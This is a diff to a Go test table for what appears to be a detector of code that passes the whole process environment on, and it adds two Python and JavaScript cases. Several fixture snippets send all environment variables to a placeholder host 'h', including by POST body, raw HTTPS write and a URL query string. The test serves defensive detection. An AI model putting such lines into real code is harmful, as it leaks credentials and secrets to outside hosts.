@@ -22,6 +22,8 @@ func TestEnvironmentHandedOn(t *testing.T) {
 		{"for a command", "python", "import os, subprocess; subprocess.run(['ls'], env=dict(os.environ))", false},
 		{"in an object that is sent", "javascript", "fetch('http://h', {method: 'POST', body: JSON.stringify(process.env)})", true},
 		{"written to a connection", "javascript", "require('https').request('https://h').end(JSON.stringify(process.env))", true},
+		{"in an address", "python", "import os, requests; requests.get('http://h/?' + str(dict(os.environ)))", true},
+		{"one variable in an address", "javascript", "fetch('http://h/?' + process.env.X)", false},
 		{"printed", "javascript", "console.log(process.env)", true},
 		{"one variable", "javascript", "console.log(process.env.HOME)", false},
 		{"for a command", "javascript", "require('child_process').spawn('ls', [], {env: process.env})", false},
